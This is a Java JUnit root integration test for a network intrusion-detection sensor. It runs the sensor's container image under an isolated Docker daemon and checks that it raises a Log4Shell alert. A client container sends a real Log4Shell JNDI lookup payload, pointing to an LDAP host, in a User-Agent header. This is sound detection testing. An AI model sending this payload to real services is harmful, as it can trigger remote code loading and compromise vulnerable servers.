package io.crowsnest.deploy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.BooleanSupplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * The sensor's container image, built and run under a real Docker Engine (Debian's docker.io) started
 * here in an isolated mode: no iptables changes, no default bridge, its own data root, exec root and
 * socket; a bridge network of its own (cn-dk-br0, 10.253.0.0/24). No registry is reachable, so the image is
 * built FROM scratch out of deploy/docker/local/build-rootfs.sh (the Dockerfile's jlink runtime, the
 * jar, libpcap, a non-root user with file capabilities). The container runs as uid 10001 with only
 * CAP_NET_RAW and CAP_NET_ADMIN, captures on the bridge between two busybox containers, writes the
 * Log4Shell alert their traffic raises, and exits 0 on `docker stop`.
 */
@Tag("root")
class ContainerImageRootTest {
    static final String BRIDGE = "cn-dk-br0";

    @Test
    void imageCapturesOnABridgeAndWritesAlerts() throws Exception {
        if (!"0".equals(run(List.of("id", "-u"), 10).strip())) {
            fail("ContainerImageRootTest needs root (dockerd, bridges): run bin/test as root, as CI does");
        }
        if (exit(List.of("dockerd", "--version")) != 0 || !Files.isExecutable(Path.of("/bin/busybox"))) {
            fail("needs Debian's docker.io and busybox-static: apt-get install -y docker.io busybox-static");
        }
        Path root = projectRoot();
        Path jar = root.resolve("sensor/target/crowsnest.jar");
        assertTrue(Files.isRegularFile(jar), "build the sensor first: " + jar);
        exit(List.of("ip", "link", "del", BRIDGE)); // a leftover from an interrupted run
        Path dir = Files.createTempDirectory(Path.of("/tmp"), "cn-dk-");
        Path ctx = dir.resolve("image");
        run(List.of("bash", root.resolve("deploy/docker/local/build-rootfs.sh").toString(), jar.toString(), ctx.toString()), 300);

        Path sock = dir.resolve("docker.sock");
        String host = "unix://" + sock;
        Process dockerd = new ProcessBuilder("dockerd", "--iptables=false", "--ip-forward=false", "--ip-masq=false",
                "--bridge=none", "--data-root", dir.resolve("data").toString(), "--exec-root", dir.resolve("exec").toString(),
                "--host", host, "--pidfile", dir.resolve("pid").toString())
                .redirectErrorStream(true).redirectOutput(dir.resolve("dockerd.log").toFile()).start();
        Path out = Files.createDirectories(dir.resolve("out"));
        run(List.of("chown", "10001:10001", out.toString()), 10);
        try {
            waitFor(() -> Files.exists(sock) && exit(List.of("docker", "-H", host, "version")) == 0, Duration.ofSeconds(60),
                    () -> "dockerd did not come up: " + read(dir.resolve("dockerd.log")));
            docker(host, 600, "build", "-q", "-t", "crowsnest-local:test", ctx.toString());
            Path bb = Files.createDirectories(dir.resolve("busybox"));
            Files.copy(Path.of("/bin/busybox"), bb.resolve("busybox"));
            Files.createDirectories(bb.resolve("www"));
            Files.writeString(bb.resolve("www/index.html"), "<h1>cn-dk web</h1>\n");
            Files.writeString(bb.resolve("Dockerfile"), "FROM scratch\nCOPY busybox /bin/busybox\nCOPY www /www\n"
                    + "ENTRYPOINT [\"/bin/busybox\"]\n");
            docker(host, 120, "build", "-q", "-t", "cn-dk-busybox:1", bb.toString());
            docker(host, 60, "network", "create", "--driver", "bridge", "--subnet", "10.253.0.0/24",
                    "-o", "com.docker.network.bridge.name=" + BRIDGE, "cn-dk-net");
            docker(host, 60, "run", "-d", "--name", "cn-dk-web", "--label", "app=web", "--network", "cn-dk-net",
                    "--ip", "10.253.0.10", "cn-dk-busybox:1", "httpd", "-f", "-p", "8080", "-h", "/www");
            // the test's own dockerd socket, readable by the sensor's uid (the sensor names containers through it)
            run(List.of("chmod", "666", sock.toString()), 10);

            // the sensor: host network (it must see the bridge), non-root, only the two capabilities
            docker(host, 60, "run", "-d", "--name", "cn-dk-sensor", "--network", "host", "--cap-drop", "ALL",
                    "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only", "--tmpfs", "/tmp:exec",
                    "-v", out + ":/var/lib/crowsnest", "-v", sock + ":/var/run/docker.sock", "crowsnest-local:test",
                    "live", "--interfaces", BRIDGE, "--out", "/var/lib/crowsnest", "--node", "cn-dk-node",
                    "--metrics-address", "none", "--admin-address", "none");
            waitFor(() -> logs(host, "cn-dk-sensor").contains("capturing on " + BRIDGE), Duration.ofSeconds(60),
                    () -> "the sensor container did not start capturing:\n" + logs(host, "cn-dk-sensor"));
            assertEquals("10001:10001", docker(host, 30, "inspect", "-f", "{{.Config.User}}", "cn-dk-sensor"));

            docker(host, 60, "run", "--rm", "--name", "cn-dk-client", "--label", "role=attacker", "--network", "cn-dk-net",
                    "cn-dk-busybox:1", "sh", "-c", "sleep 1; wget -q -O /dev/null --header 'User-Agent: ${jndi:ldap://10.253.0.66:1389/a}'"
                    + " http://10.253.0.10:8080/; sleep 2");
            Path eve = out.resolve("eve.json");
            waitFor(() -> read(eve).contains("\"signature_id\":9100001"), Duration.ofSeconds(30),
                    () -> "no Log4Shell alert from the container:\n" + read(eve) + "\n" + logs(host, "cn-dk-sensor"));
            String alert = read(eve).lines().filter(l -> l.contains("\"signature_id\":9100001")).findFirst().orElseThrow();
            assertTrue(alert.contains("\"dest_ip\":\"10.253.0.10\"") && alert.contains("\"dest_port\":8080"), alert);
            // both ends named from the Docker Engine API, the client after it was removed (--rm)
            assertTrue(alert.contains("\"src_workload\":{\"kind\":\"container\"") && alert.contains("\"container\":\"cn-dk-client\"")
                    && alert.contains("\"role\":\"attacker\""), () -> alert + "\n" + logs(host, "cn-dk-sensor"));
            assertTrue(alert.contains("\"container\":\"cn-dk-web\"") && alert.contains("\"image\":\"cn-dk-busybox:1\"")
                    && alert.contains("\"app\":\"web\""), alert);

            docker(host, 60, "stop", "-t", "20", "cn-dk-sensor");
            assertEquals("0", docker(host, 30, "inspect", "-f", "{{.State.ExitCode}}", "cn-dk-sensor"),
                    () -> "the sensor must exit 0 on SIGTERM:\n" + logs(host, "cn-dk-sensor"));
            System.out.println("container image: " + run(List.of("du", "-sh", ctx.resolve("rootfs").toString()), 30).strip()
                    + "; alert: " + alert);
        } finally {
            for (String c : List.of("cn-dk-sensor", "cn-dk-web", "cn-dk-client")) {
                exit(List.of("docker", "-H", host, "rm", "-f", c));
            }
            exit(List.of("docker", "-H", host, "network", "rm", "cn-dk-net"));
            dockerd.destroy(); // SIGTERM: dockerd stops its containerd and cleans its mounts
            if (!dockerd.waitFor(30, TimeUnit.SECONDS)) {
                dockerd.destroyForcibly();
                dockerd.waitFor(10, TimeUnit.SECONDS);
            }
            exit(List.of("ip", "link", "del", BRIDGE));
            exit(List.of("umount", "-R", dir.resolve("data").toString()));
            exit(List.of("umount", dir.resolve("exec/netns/default").toString())); // dockerd leaves its netns mounted
            deleteTree(dir);
        }
    }

    static Path projectRoot() {
        Path here = Path.of("").toAbsolutePath();
        return Files.isRegularFile(here.resolve("check.sh")) ? here.getParent() : here;
    }

    static String docker(String host, int timeoutSeconds, String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("env", "DOCKER_BUILDKIT=0", "docker", "-H", host));
        cmd.addAll(List.of(args));
        String out = run(cmd, timeoutSeconds).strip();
        // stderr is merged: "docker run" warns (IPv4 forwarding is off, on purpose) before the id
        return out.substring(out.lastIndexOf('\n') + 1);
    }

    static String logs(String host, String container) {
        try {
            Process p = new ProcessBuilder("docker", "-H", host, "logs", container).redirectErrorStream(true).start();
            String s = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            p.waitFor(10, TimeUnit.SECONDS);
            return s;
        } catch (IOException | InterruptedException e) {
            return e.toString();
        }
    }

    static String run(List<String> cmd, int timeoutSeconds) throws Exception {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        byte[] b = p.getInputStream().readAllBytes();
        if (!p.waitFor(timeoutSeconds, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            fail(String.join(" ", cmd) + " did not finish in " + timeoutSeconds + " s");
        }
        String s = new String(b, StandardCharsets.UTF_8);
        assertEquals(0, p.exitValue(), () -> String.join(" ", cmd) + " failed:\n" + s);
        return s;
    }

    static int exit(List<String> cmd) {
        try {
            Process p = new ProcessBuilder(cmd).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
            return p.waitFor(60, TimeUnit.SECONDS) ? p.exitValue() : -1;
        } catch (IOException | InterruptedException e) {
            return -1;
        }
    }

    static String read(Path f) {
        try {
            return Files.exists(f) ? Files.readString(f) : "";
        } catch (IOException e) {
            return e.toString();
        }
    }

    static void waitFor(BooleanSupplier c, Duration d, java.util.function.Supplier<String> msg) throws InterruptedException {
        long end = System.nanoTime() + d.toNanos();
        while (!c.getAsBoolean()) {
            if (System.nanoTime() > end) {
                throw new AssertionError(msg.get());
            }
            Thread.sleep(200);
        }
    }

    static void deleteTree(Path p) {
        if (!Files.exists(p)) {
            return;
        }
        try (Stream<Path> s = Files.walk(p)) {
            for (Path x : s.sorted(Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(x);
            }
        } catch (IOException ignored) {
            // best effort; the temp dir name is unique
        }
    }
}
